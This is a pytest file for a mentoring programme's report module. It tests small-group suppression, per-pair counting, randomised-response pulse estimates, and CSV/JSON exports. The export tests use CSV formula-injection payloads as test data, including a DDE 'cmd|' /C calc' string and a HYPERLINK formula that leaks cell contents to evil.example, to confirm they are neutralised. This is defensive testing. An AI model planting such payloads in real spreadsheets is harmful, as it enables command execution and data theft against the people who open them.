"""domain/programme_report.py: the coordinator's report — a pair counted once a month, small
groups suppressed as the protocol's vector says, pulse estimates equal to the vector's, and CSV
and JSON exports that a spreadsheet cannot be tricked by."""

from __future__ import annotations

import copy
import csv
import io
import json
import math
import re
from fractions import Fraction
from pathlib import Path
from typing import Any

import msgspec
import pytest

from ementor_desktop.domain.programme_report import (
    CSV_COLUMNS,
    breakdown,
    build_report,
    neutralise,
    report_csv,
    report_json,
)
from ementor_desktop.domain.programme_types import ParticipantRow, ParticipantState
from ementor_desktop.protocol import programme_schema as ps

_DOC = (Path(__file__).resolve().parents[2] / "docs" / "protocol.md").read_text(encoding="utf-8")
_PART_4 = _DOC[_DOC.index("# Part 4"):]


def _block(name: str) -> dict[str, str]:
    for block in re.findall(r"<!-- vector -->\n```\n(.*?)```", _PART_4, re.DOTALL):
        fields = dict(line.partition(": ")[::2] for line in block.splitlines())
        if fields.get("vector") == name:
            return fields
    raise KeyError(name)


TERMS_PLAIN: dict[str, Any] = json.loads(_block("programme-terms")["terms_json"])
TERMS = msgspec.convert(TERMS_PLAIN, ps.Terms, strict=True)
RR = _block("randomised-response")
SMALL = _block("small-groups")
NOW = 1775000000000
FEB, MAR = "2026-02", "2026-03"


def _key(n: int) -> str:
    return f"{n:064x}"


def _conv(n: int) -> str:
    return f"{n:032x}"


def _summary(participant: int, conv: int, period: str, at: int,
             figures: dict[str, Any] | None = None,
             pulse: dict[str, int] | None = None, p_milli: dict[str, int] | None = None
             ) -> ps.Summary:
    plain: dict[str, Any] = {"v": 1, "programme": TERMS.programme,
                             "coordinator": TERMS.coordinator, "participant": _key(participant),
                             "conv": _conv(conv), "period": period, "at": at}
    scopes = set()
    if figures:
        plain["figures"] = figures
        scopes |= {ps.FIGURE_SCOPES[name] for name in figures}
    if pulse:
        items = {item.id: item.p_milli for item in TERMS.reporting.pulse} | (p_milli or {})
        plain["pulse"] = [{"item": item, "value": value, "p_milli": items[item]}
                          for item, value in pulse.items()]
        scopes.add("pulse")
    plain["scopes"] = sorted(scopes)
    return msgspec.convert(plain, ps.Summary, strict=True)


def _pairs(count: int, period: str, figures: dict[str, Any], at: int = 1) -> list[ps.Summary]:
    """One summary per pair, from the pair's mentee (participant 2n) for pair n."""
    return [_summary(2 * n, n, period, at, figures) for n in range(1, count + 1)]


def _row(n: int, role: str, state: ParticipantState = ParticipantState.ACTIVE,
         matched_with: tuple[str, ...] = ("Someone",)) -> ParticipantRow:
    return ParticipantRow(member_id=f"m{n}", key=_key(n), name=f"Person {n}", role=role,
                          state=state, joined_at=1, matched_with=matched_with)


def _report(summaries: list[ps.Summary], participants: list[ParticipantRow] | None = None,
            terms: ps.Terms = TERMS, name: str = "Mentoring 2026") -> Any:
    return build_report(programme_id=terms.programme, name=name, terms=terms,
                        participants=participants or [], summaries=summaries, now_ms=NOW)


# -- small groups ------------------------------------------------------------------------------

def _counts(text: str) -> dict[str, int]:
    return {cell: int(n) for cell, _, n in (item.partition("=") for item in text.split())}


@pytest.mark.parametrize("suffix", ["", "_b", "_c", "_d"])
def test_the_small_groups_vector(suffix: str) -> None:
    shown = breakdown(_counts(SMALL[f"counts{suffix}"]), int(SMALL["k"]))
    assert {cell for cell, n in shown.items() if n is None} == set(
        SMALL[f"suppressed{suffix}"].split())
    assert all(n == _counts(SMALL[f"counts{suffix}"])[cell]
               for cell, n in shown.items() if n is not None)


def test_a_month_with_fewer_pairs_than_the_minimum_shows_no_figure() -> None:
    figures = {"sessions_held": 2, "minutes_held": 90, "sessions_cancelled": 0}
    report = _report(_pairs(5, FEB, figures) + _pairs(4, MAR, figures))
    feb, mar = report.periods
    assert (feb.period, feb.pairs, feb.suppressed) == (FEB, 5, False)
    assert (feb.sessions_held, feb.minutes_held, feb.sessions_cancelled) == (10, 450, 0)
    assert (mar.period, mar.pairs, mar.suppressed) == (MAR, 4, True)
    assert all(getattr(mar, name) is None for name in (
        "sessions_held", "minutes_held", "sessions_cancelled", "goals_set", "goals_done",
        "cadence_kept_pct", "progress_mean_pct", "agreements_signed"))
    assert any(MAR in note for note in report.notes)


def test_a_figure_sent_by_too_few_pairs_is_not_shown_while_others_are() -> None:
    sessions = {"sessions_held": 1, "minutes_held": 60, "sessions_cancelled": 0}
    with_goals = {**sessions, "goals_set": 2, "goals_achieved": 1, "cadence_kept_pct": 50}
    summaries = _pairs(6, FEB, sessions) + [
        _summary(100 + n, 100 + n, FEB, 1, with_goals) for n in range(4)]
    (feb,) = _report(summaries).periods
    assert feb.pairs == 10 and not feb.suppressed
    assert feb.sessions_held == 10
    assert feb.goals_set is None and feb.goals_done is None and feb.cadence_kept_pct is None
    more = [*summaries, _summary(200, 200, FEB, 1, with_goals)]
    (feb,) = _report(more).periods
    assert (feb.goals_set, feb.goals_done, feb.cadence_kept_pct) == (10, 5, 50)


def test_means_are_rounded_half_up_and_agreements_counted() -> None:
    summaries = [_summary(n, n, FEB, 1, {"cadence_kept_pct": pct, "progress_mean_pct": pct,
                                         "agreement_signed": n % 2 == 0})
                 for n, pct in enumerate([0, 50, 50, 100, 25, 50], start=1)]
    (feb,) = _report(summaries).periods
    # 275 / 6 = 45.83 -> 46
    assert (feb.cadence_kept_pct, feb.progress_mean_pct, feb.agreements_signed) == (46, 46, 3)
    summaries[0] = _summary(1, 1, FEB, 1, {"cadence_kept_pct": 3, "progress_mean_pct": 3,
                                           "agreement_signed": False})
    (feb,) = _report(summaries).periods
    assert feb.cadence_kept_pct == 46  # 278 / 6 = 46.33
    half = [_summary(n, n, FEB, 1, {"cadence_kept_pct": pct})
            for n, pct in enumerate([0, 0, 1, 1, 1, 0], start=1)]
    assert _report(half).periods[0].cadence_kept_pct == 1  # 3 / 6 = 0.5 rounds up


# -- a pair once -------------------------------------------------------------------------------

def test_a_pair_counts_once_a_month_with_its_most_recent_summary() -> None:
    summaries = []
    for n in range(1, 6):
        mentee, mentor = 2 * n, 2 * n + 1
        summaries.append(_summary(mentee, n, FEB, 100, {"sessions_held": 1}))
        summaries.append(_summary(mentor, n, FEB, 200, {"sessions_held": 3}))  # later
        summaries.append(_summary(mentor, n, FEB, 50, {"sessions_held": 9}))  # superseded
    (feb,) = _report(summaries).periods
    assert feb.pairs == 5 and feb.sessions_held == 15


def test_a_member_s_pulse_only_summary_does_not_hide_the_pair_s_figures() -> None:
    summaries = []
    for n in range(1, 6):
        summaries.append(_summary(2 * n, n, FEB, 100, {"sessions_held": 2}))
        summaries.append(_summary(2 * n + 1, n, FEB, 200, pulse={"useful": 4}))
    (feb,) = _report(summaries).periods
    assert feb.pairs == 5 and feb.sessions_held == 10


def test_the_report_does_not_depend_on_the_order_summaries_are_given() -> None:
    summaries = []
    for n in range(1, 6):
        summaries.append(_summary(2 * n, n, FEB, 100, {"sessions_held": 1}))
        summaries.append(_summary(2 * n + 1, n, FEB, 100, {"sessions_held": 2}))
    assert _report(summaries) == _report(list(reversed(summaries)))


# -- pulse -------------------------------------------------------------------------------------

def _fraction(text: str) -> Fraction:
    return Fraction(text)


def test_pulse_estimates_are_the_vector_s() -> None:
    reports = [int(r) for r in RR["reports"].split()]
    assert int(RR["p_milli"]) == 500  # the terms' "safe" item
    summaries = [_summary(n, n, FEB, 1, pulse={"safe": value})
                 for n, value in enumerate(reports, start=1)]
    participants = [_row(n, "mentee") for n in range(1, len(reports) + 1)]
    report = _report(summaries, participants)
    (row,) = report.pulse  # one role only: no breakdown beside the total
    assert (row.item, row.period, row.role, row.answers) == ("safe", FEB, "", 10)
    assert row.sensitive and row.p_milli == 500 and not row.suppressed
    mean = _fraction(RR["mean"])
    assert row.mean == pytest.approx(float(mean), abs=1e-12)
    spread = 1.96 * math.sqrt(float(_fraction(RR["variance"])))
    assert row.low == pytest.approx(max(1.0, float(mean) - spread), abs=1e-12)
    assert row.high == pytest.approx(min(5.0, float(mean) + spread), abs=1e-12)
    assert row.shares == pytest.approx([float(_fraction(s)) for s in RR["shares"].split()],
                                       abs=1e-12)
    assert row.question == TERMS.pulse_item("safe").question  # type: ignore[union-attr]


def test_an_interval_is_clipped_to_the_scale_but_the_mean_is_not() -> None:
    summaries = [_summary(n, n, FEB, 1, pulse={"safe": 5}) for n in range(1, 7)]
    (row,) = _report(summaries).pulse
    assert row.mean == pytest.approx(7.0)  # (5 - 1.5) / 0.5: an unbiased estimate past 5
    assert row.low == row.high == 5.0


def test_pulse_by_role_is_a_breakdown_suppressed_beside_its_total() -> None:
    mentees = [_summary(n, n, FEB, 1, pulse={"useful": 4}) for n in range(1, 8)]
    mentors = [_summary(n, n, FEB, 1, pulse={"useful": 2}) for n in range(8, 11)]
    participants = [_row(n, "mentee") for n in range(1, 8)] + \
        [_row(n, "mentor") for n in range(8, 11)]
    rows = {row.role: row for row in _report(mentees + mentors, participants).pulse}
    assert set(rows) == {"", "mentee", "mentor"}
    assert not rows[""].suppressed and rows[""].answers == 10
    assert rows[""].mean == pytest.approx(3.4)
    # mentor 3 < 5 (primary); then mentee 7 too, or 10 - 7 would give the mentors away
    assert rows["mentor"].suppressed and rows["mentor"].mean is None
    assert rows["mentee"].suppressed and rows["mentee"].mean is None
    more = mentors + [_summary(n, n, FEB, 1, pulse={"useful": 2}) for n in (11, 12)]
    participants += [_row(11, "mentor"), _row(12, "mentor")]
    rows = {row.role: row for row in _report(mentees + more, participants).pulse}
    assert not rows["mentor"].suppressed and rows["mentor"].mean == pytest.approx(2.0)
    assert not rows["mentee"].suppressed and rows["mentee"].mean == pytest.approx(4.0)


def test_no_breakdown_when_someone_answering_is_of_no_known_role() -> None:
    mentees = [_summary(n, n, FEB, 1, pulse={"useful": 4}) for n in range(1, 6)]
    mentors = [_summary(n, n, FEB, 1, pulse={"useful": 2}) for n in range(6, 11)]
    stranger = [_summary(99, 99, FEB, 1, pulse={"useful": 1})]
    participants = [_row(n, "mentee") for n in range(1, 6)] + \
        [_row(n, "mentor") for n in range(6, 11)]
    rows = _report(mentees + mentors, participants).pulse
    assert [row.role for row in rows] == ["", "mentee", "mentor"]
    rows = _report(mentees + mentors + stranger, participants).pulse
    assert [(row.role, row.answers) for row in rows] == [("", 11)]


def test_fewer_people_than_the_minimum_show_no_pulse_figure() -> None:
    summaries = [_summary(n, n, FEB, 1, pulse={"useful": 4}) for n in range(1, 5)]
    (row,) = _report(summaries).pulse
    assert row.suppressed and row.answers == 4
    assert (row.mean, row.low, row.high, row.shares) == (None, None, None, None)


def test_a_person_answers_once_a_month_whatever_their_number_of_pairs() -> None:
    summaries = [_summary(n, n, FEB, 1, pulse={"useful": 3}) for n in range(1, 6)]
    # Participant 1 is a mentor of two pairs: a second summary, later, with another answer.
    summaries.append(_summary(1, 99, FEB, 5, pulse={"useful": 5}))
    (row,) = _report(summaries).pulse
    assert row.answers == 5
    assert row.mean == pytest.approx((5 + 3 * 4) / 5)


def test_answers_randomised_otherwise_than_the_terms_say_are_left_out() -> None:
    summaries = [_summary(n, n, FEB, 1, pulse={"safe": 3}) for n in range(1, 6)]
    summaries.append(_summary(6, 6, FEB, 1, pulse={"safe": 1}, p_milli={"safe": 900}))
    report = _report(summaries)
    (row,) = report.pulse
    assert row.answers == 5
    assert any("randomisation" in note for note in report.notes)


# -- enrolment ---------------------------------------------------------------------------------

def test_enrolment_is_the_coordinator_s_own_data_and_never_suppressed() -> None:
    participants = [
        _row(1, "mentee"), _row(2, "mentor"),
        _row(3, "mentee", ParticipantState.ENROLLED, ()),
        _row(4, "mentee", ParticipantState.MATCHED, ()),
        _row(5, "mentor", ParticipantState.PENDING, ()),
        _row(6, "mentee", ParticipantState.ENDED, ()),
    ]
    report = _report([], participants)
    assert report.enrolment == {"active": 2, "ended": 1, "enrolled": 1, "matched": 1,
                                "pending": 1}
    assert report.by_role == {"mentee": {"active": 1, "ended": 1, "enrolled": 1,
                                         "matched": 1},
                              "mentor": {"active": 1, "pending": 1}}
    assert (report.matched, report.unmatched) == (3, 1)
    assert report.min_group == 5 and report.generated_at == NOW
    assert report.periods == () and report.pulse == ()


# -- exports -----------------------------------------------------------------------------------

@pytest.mark.parametrize(("cell", "safe"), [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("@SUM(A1)", "'@SUM(A1)"),
    ("-2+3", "'-2+3"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("-0.2", "-0.2"), ("-7", "-7"),
    ("4.5", "4.5"), ("Mentoring", "Mentoring"), ("", ""),
])
def test_cells_a_spreadsheet_would_run_are_neutralised(cell: str, safe: str) -> None:
    assert neutralise(cell) == safe


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _hostile_terms() -> ps.Terms:
    plain = copy.deepcopy(TERMS_PLAIN)
    plain["reporting"]["pulse"][0]["question"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    plain["reporting"]["pulse"][1]["question"] = "-1+1 " + HOSTILE
    return msgspec.convert(plain, ps.Terms, strict=True)


def _exported() -> tuple[Any, list[dict[str, str]]]:
    terms = _hostile_terms()
    summaries = [_summary(n, n, FEB, 1, {"sessions_held": 1, "minutes_held": 30,
                                         "sessions_cancelled": 0},
                          pulse={"useful": 5, "safe": 5}) for n in range(1, 6)]
    summaries += [_summary(10 + n, 10 + n, MAR, 1, {"sessions_held": 1},
                           pulse={"useful": 2}) for n in range(1, 3)]
    report = _report(summaries, [_row(n, "mentee") for n in range(1, 6)], terms=terms,
                     name=HOSTILE)
    text = report_csv(report)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return report, rows


def test_the_csv_export_cannot_carry_a_formula() -> None:
    _, rows = _exported()
    assert rows and list(rows[0]) == list(CSV_COLUMNS)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or re.fullmatch(r"-[0-9.]+", cell), cell
    names = [row["value"] for row in rows if row["metric"] == "name"]
    assert names == ["'" + HOSTILE]
    questions = {row["question"] for row in rows if row["section"] == "pulse"}
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in questions
    assert "'-1+1 " + HOSTILE in questions


def test_the_csv_export_leaves_suppressed_figures_blank_and_says_so() -> None:
    report, rows = _exported()
    march = [row for row in rows if row["section"] == "pairs" and row["period"] == MAR]
    assert march and all(row["value"] == "" and row["status"] == "suppressed"
                         for row in march)
    assert {row["count"] for row in march} == {"2"}
    feb = {row["metric"]: row for row in rows
           if row["section"] == "pairs" and row["period"] == FEB}
    assert (feb["sessions_held"]["value"], feb["sessions_held"]["status"]) == ("5", "shown")
    assert feb["goals_set"]["value"] == "" and feb["goals_set"]["status"] == "suppressed"
    safe = {row["metric"]: row for row in rows
            if row["section"] == "pulse" and row["item"] == "safe" and row["period"] == FEB}
    assert safe["share_1"]["value"] == "-0.2"  # a negative estimate stays a number
    assert safe["mean"]["value"] == "7" and safe["high"]["value"] == "5"
    useful_march = [row for row in rows if row["section"] == "pulse" and row["period"] == MAR]
    assert useful_march and all(row["value"] == "" and row["status"] == "suppressed"
                                for row in useful_march)
    assert [row["value"] for row in rows if row["section"] == "note"] == list(report.notes)


def test_the_json_report_has_stable_field_names_and_nulls_for_suppressed() -> None:
    report, _rows = _exported()
    out = report_json(report)
    json.dumps(out)  # plain JSON values only
    assert set(out) == {"format", "programme", "name", "generated_at", "min_group",
                        "enrolment", "by_role", "matched", "unmatched", "periods", "pulse",
                        "notes"}
    assert out["format"] == 1 and out["programme"] == TERMS.programme
    assert out["name"] == HOSTILE  # JSON carries text as text; only the CSV needs the quote
    assert set(out["periods"][0]) == {
        "period", "pairs", "suppressed", "sessions_held", "minutes_held",
        "sessions_cancelled", "goals_set", "goals_done", "cadence_kept_pct",
        "progress_mean_pct", "agreements_signed"}
    march = out["periods"][1]
    assert march["suppressed"] is True and march["sessions_held"] is None
    assert set(out["pulse"][0]) == {"period", "item", "question", "role", "answers",
                                    "sensitive", "p_milli", "suppressed", "mean", "low",
                                    "high", "shares"}
    hidden = [row for row in out["pulse"] if row["suppressed"]]
    assert hidden and all(row["mean"] is None and row["shares"] is None for row in hidden)
